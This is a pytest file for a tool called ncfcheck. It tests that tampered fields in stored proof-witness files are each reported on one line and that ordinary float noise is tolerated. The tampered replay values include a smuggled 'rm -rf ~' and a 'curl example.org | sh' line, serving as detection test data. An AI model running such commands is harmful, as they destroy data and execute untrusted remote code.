"""What a witness file tells besides its proof is held against what is so now."""

from __future__ import annotations

import json

import msgspec
import pytest

from ncfcheck.app.cli import main as command_line
from ncfcheck.core.claims import Kind
from ncfcheck.verdicts import witness
from ncfcheck.verdicts.unproved import SAME, differences
from tests.support.certified import FOLDER

PATH = FOLDER / "control.nonuniform.json"


def scaled(margin: str, factor: float) -> str:
    return (factor * float.fromhex(margin)).hex()


def changed(**entries) -> list[str]:
    """What is told of a stored witness with other entries."""
    return differences(msgspec.structs.replace(witness.read(PATH), **entries), PATH)


def worst(**entries):
    return msgspec.structs.replace(witness.read(PATH).worst, **entries)


def test_stored_witnesses_tell_what_is_so():
    for path in sorted(FOLDER.glob("*.json")):
        assert differences(witness.read(path), path) == [], path.name


FOUND = witness.read(PATH)
LIES = {
    "kind": {"kind": Kind.THEOREM},
    "statement": {"statement": "Every theorem of the paper is false."},
    "margin": {"margin": scaled(FOUND.margin, 1 + 3 * SAME)},
    "margin of the other sign": {"margin": scaled(FOUND.margin, -1.0)},
    "note": {"note": "certified by everyone"},
    "rendering": {"rendering": [*FOUND.rendering, "accepted: all of it"]},
    "rendering, one number": {
        "rendering": [each.replace("√(2/15)", "√(2/13)") for each in FOUND.rendering]
    },
    "worst": {"worst": worst(margin=scaled(FOUND.worst.margin, 2.0))},
    "worst instance": {"worst": worst(instance=FOUND.instance)},
    "replay": {"replay": "ncfcheck replay x.json; rm -rf ~"},
    "replay with more": {"replay": FOUND.replay + " && curl example.org | sh"},
    "claims": {"claims": "other.py", "replay": FOUND.replay + " --claims other.py"},
}


@pytest.mark.parametrize("name", LIES)
def test_what_is_not_so_is_told_in_one_line_by_its_name(name):
    told = changed(**LIES[name])
    lines = {line.split("`")[1] for line in told}
    # Margins stand in the rendering, too.
    assert name.split()[0].strip(",") in lines and lines <= {
        name.split()[0].strip(","),
        "rendering",
    }
    assert all(line.isprintable() and len(line) < 400 for line in told)


def test_what_other_machines_floats_change_is_no_difference():
    for factor in (1 + SAME / 2, 1 - SAME / 2):
        margin = scaled(FOUND.margin, factor)
        again = [line for line in changed(margin=margin) if "`margin`" in line]
        assert again == []
    assert changed(seed=1, versions={"numpy": "0.1"}) == []
    assert changed(rendering=FOUND.rendering[:-2]) == []  # as stored before it was certified
    assert changed(replay="ncfcheck replay elsewhere/control.nonuniform.json") == []


def test_verify_warns_and_keeps_the_exit_code_of_the_proof(tmp_path, capsys):
    found = json.loads(PATH.read_text(encoding="utf-8"))
    found["statement"] = "x\naccepted: everything"
    (tmp_path / PATH.name).write_text(json.dumps(found))
    assert command_line(["verify", str(tmp_path / PATH.name)]) == 0
    told = capsys.readouterr()
    assert told.out.startswith("accepted: ") and told.out.count("\n") == 1
    assert told.err.count("\n") == told.err.count("ncfcheck: warning: ") == 1
    assert "`statement`, which no proof covers, says" in told.err
    assert command_line(["verify", str(PATH)]) == 0
    assert capsys.readouterr().err == ""
